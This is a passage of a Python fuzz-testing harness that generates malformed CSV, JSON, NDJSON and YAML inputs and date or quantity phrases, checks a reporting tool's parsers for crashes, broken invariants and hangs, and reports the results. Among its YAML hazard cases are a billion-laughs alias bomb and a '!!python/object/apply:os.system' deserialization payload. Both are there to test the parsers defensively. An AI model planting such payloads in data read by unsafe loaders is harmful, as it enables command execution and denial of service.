    roll = rng.random()
    reports = "[" + ", ".join(json_report(rng) for _ in range(rng.randint(0, 6))) + "]"
    if roll < 0.65:
        pairs = (
            [("reports", reports), *json_context(rng)] if chance(rng, 0.9) else json_context(rng)
        )
        if chance(rng, 0.05):
            pairs.append((choose(rng, ("report", "Reports", "extra")), json_any(rng)))
        rng.shuffle(pairs)
        text = json_object(rng, [(field_name(rng, key), value) for key, value in pairs])
    elif roll < 0.85:
        text = reports
    elif roll < 0.9:
        text = deep(rng, choose(rng, ("[", '{"a":', '{"reports":[')), choose(rng, ("]", "}")))
    elif roll < 0.95:
        text = json_any(rng)
    else:
        text = reports + choose(rng, ("\n{}", " x", "\n" + json_report(rng)))
    return mutate(rng, text) if chance(rng, 0.1) else text


def ndjson_text(rng: Rng) -> str:
    lines = []
    for _ in range(rng.randint(0, 8)):
        roll = rng.random()
        if roll < 0.95:
            # One record a line: the spacing of json_object may hold line breaks.
            lines.append(json_report(rng).replace("\r\n", " ").replace("\n", " "))
        elif roll < 0.97:
            lines.append(choose(rng, ("", " ", "[]", "1", '"x"', "null", "{", "}", "{}")))
        elif roll < 0.98:
            lines.append(deep(rng, "[", "]"))
        else:
            lines.append(mutate(rng, json_report(rng)))
    newline = "\r" if chance(rng, 0.05) else choose(rng, ("\n", "\r\n"))
    text = newline.join(lines) + (newline if chance(rng, 0.7) else "")
    return mutate(rng, text) if chance(rng, 0.05) else text


# --- YAML ---------------------------------------------------------------------------------------


def yaml_quoted(text: str) -> str:
    """``text`` double-quoted, with the escapes YAML needs (JSON's, and C1 controls)."""
    quoted = json.dumps(text, ensure_ascii=False)
    # YAML refuses raw C1 controls and surrogates, even escaped: escape the one, drop the other.
    return "".join(
        f"\\u{ord(c):04x}" if "\x7f" <= c <= "\x9f" else "?" if "\ud800" <= c <= "\udfff" else c
        for c in quoted
    )


def printable(text: str) -> bool:
    return all(c.isprintable() for c in text)


# Plain scalars that YAML's syntax (not its typing) lets through; most plain ones are of this kind.
PLAIN_SAFE: Final = re.compile(r"[^\s\-?:,\[\]{}#&*!|>'\"%@`][^:#\n]*(?<=\S)")


def yaml_scalar(rng: Rng, text: str, indent: str) -> str:
    roll = rng.random()
    if roll < 0.9 and not printable(text):
        return yaml_quoted(text)  # only double quotes can hold a control character
    if roll < 0.35 and (PLAIN_SAFE.fullmatch(text) or chance(rng, 0.15)):
        return text  # plain: YAML may read it as anything
    if roll < 0.65:
        return "'" + text.replace("'", "''") + "'"
    if roll < 0.96:
        return yaml_quoted(text)
    if roll < 0.97:
        return choose(rng, YAML_HAZARDS)
    if roll < 0.997:
        style = choose(rng, ("|", ">", "|-", ">+", "|2"))
        return style + "\n" + "\n".join(indent + "  " + line for line in text.split("\n"))
    return choose(rng, YAML_TAGS) + " " + text


def yaml_key(rng: Rng, name: str) -> str:
    key = field_name(rng, name)
    plain = key and key == key.strip() and printable(key) and key[0].isalpha()
    return key if plain and chance(rng, 0.95) else yaml_quoted(key)


def yaml_report(rng: Rng, indent: str) -> str:
    lines = []
    names = report_fields(rng)
    if chance(rng, 0.1):
        flow = ", ".join(f"{yaml_key(rng, n)}: {yaml_quoted(cell(rng, n))}" for n in names)
        return f"{indent}- {{{flow}}}"
    for position, name in enumerate(names):
        lead = f"{indent}- " if position == 0 else f"{indent}  "
        if chance(rng, 0.003):
            lead = lead.replace(" ", "\t", 1)  # a tab in the indentation
        value = yaml_scalar(rng, cell(rng, name), indent + "  ")
        if chance(rng, 0.005):
            value = choose(rng, ("&a x", "*a", "[1, 2]", "{a: b}", "\n" + indent + "    - 1"))
        lines.append(f"{lead}{yaml_key(rng, name)}: {value}")
    if not names:
        lines.append(f"{indent}- " + choose(rng, ("", "~", "x", "[]", "{}")))
    return "\n".join(lines)


def yaml_context(rng: Rng) -> list[str]:
    blocks = []
    if chance(rng, 0.4):
        lines = ["sources:"]
        for _ in range(rng.randint(0, 4)):
            source = yaml_scalar(rng, choose(rng, NAMES), "  ")
            if chance(rng, 0.6):
                lines.append(f"  {source}: {yaml_scalar(rng, grade(rng), '  ')}")
            else:
                lines.append(f"  {source}:")
                lines.append(f"    grade: {yaml_scalar(rng, grade(rng), '    ')}")
                aliases = ", ".join(json.dumps(choose(rng, NAMES)) for _ in range(2))
                lines.append(f"    aliases: [{aliases}]")
        blocks.append("\n".join(lines))
    for section, pool in (("categories", CATEGORIES), ("places", PLACES)):
        if chance(rng, 0.3):
            lines = [f"{section}:"]
            for _ in range(rng.randint(0, 3)):
                parts = ", ".join(json.dumps(choose(rng, pool)) for _ in range(2))
                lines.append(f"  {json.dumps(choose(rng, pool))}: [{parts}]")
            if chance(rng, 0.05):
                lines = [f"{section}: {choose(rng, ('[a, b]', 'x', '~', '{}', '[]'))}"]
            blocks.append("\n".join(lines))
    if chance(rng, 0.2):
        start = yaml_scalar(rng, date_text(rng), "  ")
        blocks.append(
            f"incident:\n  title: {yaml_scalar(rng, random_text(rng), '  ')}\n  start: {start}"
        )
    return blocks


def yaml_text(rng: Rng) -> str:
    roll = rng.random()
    if roll < 0.7:
        reports = "\n".join(yaml_report(rng, "  ") for _ in range(rng.randint(0, 6)))
        blocks = [f"{field_name(rng, 'reports')}:\n{reports}", *yaml_context(rng)]
        rng.shuffle(blocks)
        text = "\n".join(blocks)
    elif roll < 0.8:
        text = "\n".join(yaml_report(rng, "") for _ in range(rng.randint(0, 4)))
    elif roll < 0.85:
        text = deep(rng, choose(rng, ("[", "{a: ", "- ", "reports: [")), choose(rng, ("]", "}")))
    elif roll < 0.9:
        # The billion laughs, and the other hazards of conventions.md section 4.1.
        text = choose(
            rng,
            ('a: &a ["lol","lol"]\nb: &b [*a,*a]\nreports: *b\n',
             "x: !!python/object/apply:os.system ['id']\n",
             "reports:\n  - &r {source: A, count: 1}\n  - *r\n",
             "reports:\n  - <<: {source: A}\n    count: 1\n",
             "reports: []\n---\nreports: []\n", "%YAML 1.1\n---\nreports: []\n",
             "%TAG ! tag:x,2000:\n--- !x\nreports: []\n", "? [a]\n: b\n", "...\n", "---\n",
             "reports:\n- source: A\n  count: 1\n  count: 2\n"),
        )  # fmt: skip
    else:
        text = json_text(rng)  # JSON is (nearly) YAML
    if chance(rng, 0.05):
        text = choose(rng, ("---\n", "%YAML 1.2\n---\n", "# comment\n", "\ufeff")) + text
    return mutate(rng, text) if chance(rng, 0.12) else text


# --- cases and checks ---------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class TextCase:
    """One phrase or date, with the options it is read under."""

    text: str
    order: DateOrder | None = None
    dot_grouping: bool = False


@dataclass(frozen=True, slots=True)
class FileCase:
    """One input file, loaded as ``tally validate`` and ``reconcile`` load it."""

    data: bytes
    name: str
    options: LoadOptions = field(default_factory=LoadOptions)
    sources: bytes | None = None  # a --sources file
    sources_name: str = "sources.yaml"
    split: bool = False  # also read a CSV in two processes, as a large input is


Case = TextCase | FileCase


class Broken(AssertionError):
    """A value a grammar or reader returned that breaks one of its invariants."""


def expect(condition: bool, message: str) -> None:
    # Not assert: python -O would drop the checks silently.
    if not condition:
        raise Broken(message)


def is_count(value: object) -> bool:
    return isinstance(value, int) and not isinstance(value, bool) and value >= 0


def check_quantity(quantity: Quantity, text: str | None = None) -> None:
    """What every count tally reads must be: non-negative bounds in order, a proper kernel."""
    expect(isinstance(quantity, Quantity), f"not a Quantity: {quantity!r}")
    expect(text is None or quantity.text == text, f"text {quantity.text!r} is not {text!r}")
    expect(is_count(quantity.low), f"low {quantity.low!r}")
    expect(quantity.high is None or is_count(quantity.high), f"high {quantity.high!r}")
    expect(quantity.high is None or quantity.low <= quantity.high, f"low > high in {quantity}")
    expect(quantity.value is None or is_count(quantity.value), f"value {quantity.value!r}")
    expect(is_count(quantity.conservative), f"conservative {quantity.conservative!r}")
    expect(bool(quantity.kernel), "empty kernel")
    for component in quantity.kernel:
        expect(is_count(component.low) and is_count(component.high), f"band {component}")
        expect(component.low <= component.high, f"band {component} is reversed")
        expect(0 < component.weight <= 1, f"band {component} has a weight outside (0, 1]")
    expect(math.isclose(sum(c.weight for c in quantity.kernel), 1.0), "weights do not sum to 1")
    if quantity.most_likely is not None:
        expect(quantity.high is not None, "most likely without a range")
        expect(quantity.low <= quantity.most_likely <= (quantity.high or 0), "most likely outside")


def check_date(value: DateValue) -> None:
    expect(isinstance(value, DateValue), f"not a DateValue: {value!r}")
    expect(isinstance(value.start, date) and isinstance(value.end, date), f"days of {value}")
    expect(value.start <= value.end, f"{value.text!r} starts after it ends")
    expect(MIN_YEAR <= value.start.year and value.end.year <= MAX_YEAR, f"year of {value}")
    if value.instant is not None:
        expect(value.instant.date() == value.start == value.end, f"instant of {value}")


def check_period(value: PeriodValue) -> None:
    expect(isinstance(value, PeriodValue), f"not a PeriodValue: {value!r}")
    check_date(value.start)
    if value.end is not None:
        check_date(value.end)
        expect(value.start.start <= value.end.end, f"{value.text!r} ends before it starts")


def check_grade(value: Grade) -> None:
    expect(isinstance(value, Grade), f"not a Grade: {value!r}")
    expect(Q_MIN <= value.q <= Q_MAX, f"q of {value}")


def check_finding(finding: Finding) -> None:
    expect(isinstance(finding, Finding), f"not a Finding: {finding!r}")
    expect(bool(finding.code) and bool(finding.message), f"finding without a code: {finding!r}")
    str(finding)  # the CLI prints every finding


# What became of an input: read as it stands, read with error findings, or refused outright.
ACCEPTED, FOUND, REFUSED = "accepted", "found", "refused"


def check_phrase(case: TextCase) -> str:
    outcome = REFUSED
    for dot_grouping in (case.dot_grouping, not case.dot_grouping):
        try:
            quantity = parse_quantity(case.text, dot_grouping=dot_grouping)
        except GrammarError:
            continue
        check_quantity(quantity, case.text)
        if dot_grouping == case.dot_grouping:
            outcome = ACCEPTED
    try:
        check_grade(parse_grade(case.text))
    except GrammarError:
        pass
    report = read_phrase(case.text, order=case.order)  # tally parse
    expect(bool(report.readings or report.refusals), "tally parse says nothing")
    return outcome


def check_dates(case: TextCase) -> str:
    outcome = REFUSED
    try:
        check_date(parse_date(case.text, order=case.order))
        outcome = ACCEPTED
    except GrammarError:
        pass
    try:
        check_period(parse_period(case.text, order=case.order))
        outcome = ACCEPTED
    except GrammarError:
        pass
    return outcome


def check_loaded(loaded: Loaded) -> str:
    for finding in loaded.findings:
        check_finding(finding)
    table = loaded.table
    if table is None:
        expect(bool(loaded.errors), "no table, and no error says why")
        return REFUSED
    expect(len(table.lines) == len(table.count.codes), "columns of different lengths")
    for quantity in table.count.levels:
        check_quantity(quantity)
    for published in table.published.levels:
        if published is not None:
            check_date(published)
    for period in table.period.levels:
        if period is not None:
            check_period(period)
    for graded in table.grade.levels:
        check_grade(graded)
    return ACCEPTED if loaded.valid else FOUND


def check_file(case: FileCase, directory: str) -> str:
    path = os.path.join(directory, case.name)
    with open(path, "wb") as handle:
        handle.write(case.data)
    options = case.options
    if case.sources is not None:
        sources_path = os.path.join(directory, case.sources_name)
        with open(sources_path, "wb") as handle:
            handle.write(case.sources)
        options = replace(options, sources_file=sources_path)
    outcome = check_loaded(check_reports([path], options=options))
    if case.split:
        check_split(case)
    return outcome


def document_or_error(read: Callable[[], RawDocument]) -> object:
    """What a read gives, in a form two reads can be compared by."""
    try:
        document = read()
    except TallyError as error:
        return (error.code, str(error))
    columns = {name: tuple(values) for name, values in document.columns.items()}
    return (columns, tuple(document.lines), document.findings, document.delimiter)


def check_split(case: FileCase) -> None:
    """A CSV read by two processes (from 8 MiB, split_from here) reads as it does by one."""
    try:
        text = case.data.decode("utf-8")
    except UnicodeDecodeError:
        return
    if not text or "\x00" in text:
        return  # decode refuses these before any reader runs
    whole = document_or_error(lambda: read_delimited(text, case.name, split_from=sys.maxsize))
    halves = document_or_error(lambda: read_delimited(text, case.name, split_from=1))
    expect(whole == halves, f"read in two processes: {halves!r}\nread in one: {whole!r}")


# --- targets ------------------------------------------------------------------------------------


def phrase_case(rng: Rng) -> TextCase:
    text = grade(rng) if chance(rng, 0.1) else phrase(rng)
    return TextCase(text, choose(rng, (None, *DateOrder)), chance(rng, 0.2))


def date_case(rng: Rng) -> TextCase:
    text = period_text(rng) if chance(rng, 0.4) else date_text(rng)
    return TextCase(text, choose(rng, (None, *DateOrder)))


def sources_file(rng: Rng) -> tuple[bytes, str] | None:
    if not chance(rng, 0.08):
        return None
    if chance(rng, 0.5):
        blocks = yaml_context(rng) or ["sources:"]
        if chance(rng, 0.3):  # a bare mapping of id to grade
            blocks = [f"{json.dumps(choose(rng, NAMES))}: {grade(rng)}" for _ in range(2)]
        if chance(rng, 0.05):  # not a mapping at all
            blocks = [choose(rng, ("- a\n- b", "x", "~", "[]", "sources: [a]"))]
        return finish(rng, "\n".join(blocks)), choose(rng, ("s.yaml", "s.yml", "s", "s.json"))
    pairs = json_context(rng) or [("sources", "{}")]
    return finish(rng, json_object(rng, pairs)), choose(rng, ("s.json", "s", "s.yaml"))


def file_case(rng: Rng, text: str, usual: Sequence[str]) -> FileCase:
    sources = sources_file(rng)
    data = finish(rng, text)
    case = FileCase(data, file_name(rng, usual), options(rng))
    if sources is not None:
        case = replace(case, sources=sources[0], sources_name=sources[1])
    return case


def csv_case(rng: Rng) -> FileCase:
    text, delimiter = csv_text(rng)
    usual = {"\t": (".tsv", ".tab"), ";": (".csv", ".ssv"), "|": (".csv", "")}
    case = file_case(rng, text, usual.get(delimiter, (".csv",)))
    return replace(case, split=chance(rng, 0.03))


def json_case(rng: Rng) -> FileCase:
    return file_case(rng, json_text(rng), (".json",))


def ndjson_case(rng: Rng) -> FileCase:
    return file_case(rng, ndjson_text(rng), (".ndjson", ".jsonl", ""))


def yaml_case(rng: Rng) -> FileCase:
    return file_case(rng, yaml_text(rng), (".yaml", ".yml", ""))


@dataclass(frozen=True, slots=True)
class Target:
    name: str
    generate: Callable[[Rng], Case]
    share: float  # of --inputs, under --target all


TARGETS: Final = {
    target.name: target
    for target in (
        Target("phrases", phrase_case, 0.30),
        Target("dates", date_case, 0.30),
        Target("csv", csv_case, 0.14),
        Target("json", json_case, 0.09),
        Target("ndjson", ndjson_case, 0.08),
        Target("yaml", yaml_case, 0.09),
    )
}


def case_of(target: str, seed: int, index: int) -> Case:
    """The input ``index`` of ``target``: a function of the three alone."""
    return TARGETS[target].generate(random.Random(f"{seed}:{target}:{index}"))


def check(case: Case, directory: str, target: str) -> str:
    if isinstance(case, FileCase):
        return check_file(case, directory)
    if target == "dates":
        return check_dates(case)
    return check_phrase(case)


# --- running ------------------------------------------------------------------------------------


class Hang(BaseException):
    """An input took longer than the timeout (a BaseException: no ``except Exception`` eats it)."""


@contextmanager
def deadline(seconds: float) -> Iterator[None]:
    def expire(signum: int, frame: FrameType | None) -> None:
        raise Hang(f"no result after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


@dataclass(slots=True)
class Failure:
    target: str
    index: int
    kind: str  # "crash", "broken" (an invariant) or "hang"
    error: str
    case: str
    trace: str


@dataclass(slots=True)
class Tally:
    """What a run of one target found."""

    target: str
    inputs: int = 0
    outcomes: Counter[str] = field(default_factory=Counter)
    seconds: float = 0.0
    slowest: float = 0.0
    slowest_index: int = -1
    failures: list[Failure] = field(default_factory=list)

    def add(self, other: Tally) -> None:
        self.inputs += other.inputs
        self.outcomes.update(other.outcomes)
        self.seconds += other.seconds
        if other.slowest > self.slowest:
            self.slowest, self.slowest_index = other.slowest, other.slowest_index
        self.failures.extend(other.failures)


def shown(case: Case, limit: int = 2000) -> str:
    text = repr(case)
    return text if len(text) <= limit else text[:limit] + f"... ({len(text):,} characters)"


def forget_caches() -> None:
    """Clear every lru_cache of the package: a million distinct inputs would fill them all."""
    for name, module in list(sys.modules.items()):
        if name.startswith("casualty_cli"):
            for value in vars(module).values():
                clear = getattr(value, "cache_clear", None)
                if callable(clear):
                    clear()


def run_chunk(task: tuple[str, int, int, int, float]) -> Tally:
    """Inputs ``start`` to ``stop`` of one target."""
    target, seed, start, stop, timeout = task
    tally = Tally(target)
    directory = tempfile.mkdtemp(prefix="tally-fuzz-")
    began = time.perf_counter()
    try:
        for index in range(start, stop):
            case = case_of(target, seed, index)
            before = time.perf_counter()
            try:
                with deadline(timeout):
                    tally.outcomes[check(case, directory, target)] += 1
            except TallyError:
                # Allowed (the CLI prints it and exits 1), though the loader returns findings.
                tally.outcomes[REFUSED] += 1
            except (Exception, Hang) as error:
                kind = "hang" if isinstance(error, Hang) else "crash"
                kind = "broken" if isinstance(error, Broken) else kind
                tally.failures.append(
                    Failure(
                        target, index, kind, f"{type(error).__name__}: {error}"[:500],
                        shown(case), traceback.format_exc(),
                    )
                )  # fmt: skip
            elapsed = time.perf_counter() - before
            if elapsed > tally.slowest:
                tally.slowest, tally.slowest_index = elapsed, index
            tally.inputs += 1
    finally:
        shutil.rmtree(directory, ignore_errors=True)
        forget_caches()
        gc.collect()  # the readers pause the collector while they build
    tally.seconds = time.perf_counter() - began
    return tally


def plan(targets: Sequence[str], inputs: int) -> dict[str, int]:
    """How many inputs each target gets: all of them for one target, else by share."""
    if len(targets) == 1:
        return {targets[0]: inputs}
    total = sum(TARGETS[t].share for t in targets)
    counts = {t: int(inputs * TARGETS[t].share / total) for t in targets}
    counts[targets[0]] += inputs - sum(counts.values())
    return counts


def run(
    targets: Sequence[str],
    inputs: int,
    seed: int,
    *,
    jobs: int = 1,
    chunk: int = 5000,
    timeout: float = 10.0,
    progress: bool = False,
) -> dict[str, Tally]:
    """Run ``inputs`` generated inputs over ``targets``; what each target found."""
    counts = plan(targets, inputs)
    tasks = [
        (target, seed, start, min(start + chunk, count), timeout)
        for target, count in counts.items()
        for start in range(0, count, chunk)
    ]
    tallies = {target: Tally(target) for target in counts}
    began = time.perf_counter()
    done = 0

    def collect(result: Tally) -> None:
        nonlocal done
        tallies[result.target].add(result)
        done += result.inputs
        if progress:
            rate = done / max(time.perf_counter() - began, 1e-9)
            failures = sum(len(t.failures) for t in tallies.values())
            print(
                f"{done:,}/{inputs:,} inputs, {rate:,.0f}/s, {failures} failures",
                file=sys.stderr,
                flush=True,
            )

    if jobs <= 1:
        for task in tasks:
            collect(run_chunk(task))
    else:
        context = multiprocessing.get_context("fork")
        with context.Pool(jobs) as pool:
            for result in pool.imap_unordered(run_chunk, tasks):
                collect(result)
    return tallies


def machine() -> str:
    cpus = len(os.sched_getaffinity(0)) if hasattr(os, "sched_getaffinity") else os.cpu_count()
    return (
        f"Python {platform.python_version()}, {platform.system()} {platform.machine()}, {cpus} CPUs"
    )


def report(tallies: dict[str, Tally], seed: int, jobs: int, wall: float) -> str:
    lines = [
        f"seed {seed}, {jobs} job(s), {machine()}",
        "",
        "| target | inputs | accepted | read, with error findings | refused | crashes | broken "
        "| hangs | slowest input | CPU time |",
        "|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|",
    ]
    total = Tally("all")
    for tally in tallies.values():
        total.add(tally)
    for tally in (*tallies.values(), total):
        kinds = [sum(f.kind == k for f in tally.failures) for k in ("crash", "broken", "hang")]
        slowest = f"{tally.slowest * 1000:,.0f} ms" + (
            f" (#{tally.slowest_index})" if tally.target != "all" else ""
        )
        name = f"**{tally.target}**" if tally.target == "all" else tally.target
        lines.append(
            f"| {name} | {tally.inputs:,} | {tally.outcomes[ACCEPTED]:,} | "
            f"{tally.outcomes[FOUND]:,} | {tally.outcomes[REFUSED]:,} | {kinds[0]} | {kinds[1]} | "
            f"{kinds[2]} | {slowest} | {tally.seconds:,.0f} s |"
        )
    lines += ["", f"wall clock: {wall:,.0f} s; failures: {len(total.failures)}"]
    return "\n".join(lines)


def replay(target: str, index: int, seed: int) -> int:
    case = case_of(target, seed, index)
    print(repr(case))
    directory = tempfile.mkdtemp(prefix="tally-fuzz-")
    try:
        print(check(case, directory, target))
    except TallyError as error:
        print(f"refused: {type(error).__name__} [{error.code}] {error}")
    finally:
        shutil.rmtree(directory, ignore_errors=True)
    return 0


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    parser.add_argument("--inputs", type=int, default=1_000_000, help="inputs in all")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--target", choices=[*TARGETS, "all"], default="all")
    parser.add_argument("--jobs", type=int, default=1, help="processes (each input is the same)")
    parser.add_argument("--timeout", type=float, default=10.0, help="seconds before a hang")
    parser.add_argument("--replay", metavar="TARGET:INDEX", help="run one input, uncaught")
    args = parser.parse_args(argv)
    if args.replay:
        target, _, index = args.replay.partition(":")
        return replay(target, int(index), args.seed)
    targets = list(TARGETS) if args.target == "all" else [args.target]
    began = time.perf_counter()
    tallies = run(
        targets, args.inputs, args.seed, jobs=args.jobs, timeout=args.timeout, progress=True
    )
    wall = time.perf_counter() - began
    failures = [f for tally in tallies.values() for f in tally.failures]
    for failure in failures:
        print(f"## {failure.kind}: {failure.target} #{failure.index}: {failure.error}\n")
        print(f"input: {failure.case}\n")
        print(f"replay: python benchmarks/fuzz.py --seed {args.seed} "
              f"--replay {failure.target}:{failure.index}\n")  # fmt: skip
        print(f"```\n{failure.trace}```\n")
    print(report(tallies, args.seed, args.jobs, wall))
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
